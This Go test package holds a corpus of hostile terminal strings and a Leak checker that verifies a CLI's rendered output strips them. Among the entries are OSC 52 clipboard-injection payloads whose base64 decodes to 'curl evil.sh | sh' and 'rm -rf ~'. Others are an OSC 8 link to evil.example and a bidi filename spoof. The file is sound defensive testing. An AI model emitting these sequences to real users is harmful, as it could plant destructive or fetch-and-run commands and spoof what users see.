// Package corpus holds hostile strings — terminal escape sequences, control
// characters, bidi and zero-width characters, invalid UTF-8, a 1 MB line —
// that tests put into every place server text reaches the screen (labels,
// annotations, silence comments, log lines, span tags), and Leak, which
// tells whether a rendered screen let any of it through.
package corpus

import (
	"fmt"
	"strings"
	"unicode/utf8"
)

// Entry is one hostile string.
type Entry struct {
	Name string
	Text string
	// Raw is set for entries whose raw form Leak cannot tell from oncall's
	// own output (SGR styling, an OSC 8 link to an http URL): a fragment
	// that appears in rendered output only if the entry got through raw.
	Raw string
}

// All returns the corpus (a new slice each call). Every entry carries the
// marker "pwn" so a test can find where it landed.
func All() []Entry {
	return []Entry{
		{"csi-clear-screen", "pwn\x1b[2J\x1b[H", ""},
		{"csi-sgr-red", "pwn\x1b[31mRED\x1b[0m", "\x1b[31mRED"},
		{"csi-cursor-move", "pwn\x1b[10;10Hmoved\x1b[6n", ""},
		{"osc52-clipboard", "pwn\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", ""},
		{"osc52-clipboard-st", "pwn\x1b]52;c;cm0gLXJmIH4=\x1b\\", ""},
		{"osc8-link", "pwn\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\", "\x1b]8;;https://evil.example/"},
		{"osc-title", "pwn\x1b]0;you have been pwned\x07", ""},
		{"dcs", "pwn\x1bP1$r0m\x1b\\", ""},
		{"apc-kitty-graphics", "pwn\x1b_Gf=100,a=T;AAAA\x1b\\", ""},
		{"pm-and-sos", "pwn\x1b^private\x1b\\\x1bXstring\x1b\\", ""},
		{"c0-controls", "pwn\x00\x01\x07\x08\x0b\x0c\x0e\x1a\x1c\x1f\x7fend", ""},
		{"carriage-return", "pwn safe text\roverwritten", ""},
		{"newline-tab", "pwn line1\nline2\tcol", ""},
		{"c1-csi", "pwn\u009b31mC1 CSI\u009b0m", ""},
		{"c1-osc-st", "pwn\u009d0;title\u009c", ""},
		{"c1-dcs-nel", "pwn\u0090q\u009c\u0085", ""},
		{"raw-c1-byte", "pwn\x9b31m raw byte", ""},
		{"bidi-override", "pwn \u202egnp.exe\u202c", ""},
		{"bidi-isolates", "pwn \u2066\u2067\u2068x\u2069", ""},
		{"bidi-marks", "pwn\u200e\u200f\u061c", ""},
		{"zero-width", "pwn\u200b\u200c\u200d\ufeff\u2060\u180e\u00ad", ""},
		{"tag-characters", "pwn\U000E0041\U000E007F", ""},
		{"invalid-utf8", "pwn\xff\xfe\xc3\x28\xed\xa0\x80", ""},
		{"mixed", "pwn\x1b]52;c;AAAA\x07\u202e\x1b[2J\u009b\x00", ""},
		{"1MB-line", Huge(), ""},
	}
}

// Huge is a 1 MiB line with escapes at its start, middle and end.
func Huge() string {
	const n = 1 << 20
	var b strings.Builder
	b.Grow(n + 64)
	b.WriteString("pwn\x1b[2J")
	for b.Len() < n/2 {
		b.WriteString("AAAAAAAAAAAAAAAA")
	}
	b.WriteString("\x1b]52;c;AAAA\x07")
	for b.Len() < n {
		b.WriteString("BBBBBBBBBBBBBBBB")
	}
	b.WriteString("\u202e\x1b[31m")
	return b.String()
}

// Leak reports the first thing in rendered terminal output that oncall's own
// rendering does not emit: after removing its SGR styling (ESC [ params m)
// and its OSC 8 links to safe http(s) URLs (ESC ] 8 ; ; URL ESC \), no ESC,
// no C0 control but newline, no DEL, no C1 control (U+0080–U+009F or a raw
// 0x80–0x9F byte), no bidi or zero-width format character and no invalid
// UTF-8 may remain. It returns nil when the output is clean.
func Leak(rendered string) error {
	s := rendered
	for i := 0; i < len(s); {
		c := s[i]
		if c == 0x1b {
			n, err := ownSequence(s[i:])
			if err != nil {
				return fmt.Errorf("at byte %d (%q): %w", i, context(s, i), err)
			}
			i += n
			continue
		}
		r, size := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && size <= 1:
			return fmt.Errorf("at byte %d (%q): invalid UTF-8 byte 0x%02x", i, context(s, i), c)
		case r == '\n':
		case r < 0x20, r == 0x7f:
			return fmt.Errorf("at byte %d (%q): control character 0x%02x", i, context(s, i), r)
		case r >= 0x80 && r <= 0x9f:
			return fmt.Errorf("at byte %d (%q): C1 control U+%04X", i, context(s, i), r)
		case invisible(r):
			return fmt.Errorf("at byte %d (%q): bidi/zero-width character U+%04X", i, context(s, i), r)
		}
		i += size
	}
	return nil
}

// LeakOf is Leak, and also fails when the raw fragment of any of the
// entries (see Entry.Raw) is in the rendered output.
func LeakOf(rendered string, entries ...Entry) error {
	if err := Leak(rendered); err != nil {
		return err
	}
	for _, e := range entries {
		if e.Raw != "" && strings.Contains(rendered, e.Raw) {
			return fmt.Errorf("%s got through raw (%q is in the output)", e.Name, e.Raw)
		}
	}
	return nil
}

// ownSequence measures an escape sequence oncall itself emits at the start
// of s, or says why it is not one.
func ownSequence(s string) (int, error) {
	switch {
	case strings.HasPrefix(s, "\x1b["):
		for j := 2; j < len(s); j++ {
			c := s[j]
			switch {
			case c >= '0' && c <= '9', c == ';', c == ':':
			case c == 'm':
				return j + 1, nil
			default:
				return 0, fmt.Errorf("CSI sequence that is not SGR styling (final byte %q)", c)
			}
		}
		return 0, fmt.Errorf("unterminated CSI sequence")
	case strings.HasPrefix(s, "\x1b]8;;"):
		end := strings.Index(s, "\x1b\\")
		if end < 0 {
			return 0, fmt.Errorf("unterminated OSC 8 link")
		}
		url := s[len("\x1b]8;;"):end]
		if url != "" && !safeURL(url) {
			return 0, fmt.Errorf("OSC 8 link to an unsafe URL %q", url)
		}
		return end + 2, nil
	}
	return 0, fmt.Errorf("escape sequence oncall does not emit")
}

// safeURL: http(s), printable ASCII only, no spaces.
func safeURL(u string) bool {
	if !strings.HasPrefix(u, "http://") && !strings.HasPrefix(u, "https://") {
		return false
	}
	for i := 0; i < len(u); i++ {
		if u[i] <= 0x20 || u[i] >= 0x7f {
			return false
		}
	}
	return true
}

// invisible reports bidi controls and zero-width or invisible format
// characters.
func invisible(r rune) bool {
	switch {
	case r >= 0x200b && r <= 0x200f, r >= 0x202a && r <= 0x202e, r >= 0x2060 && r <= 0x2069:
		return true
	case r == 0xfeff, r == 0x061c, r == 0x180e, r == 0x00ad:
		return true
	case r >= 0xfff9 && r <= 0xfffb, r >= 0xe0000 && r <= 0xe007f:
		return true
	}
	return false
}

func context(s string, i int) string {
	from, to := max(0, i-20), min(len(s), i+20)
	return s[from:to]
}
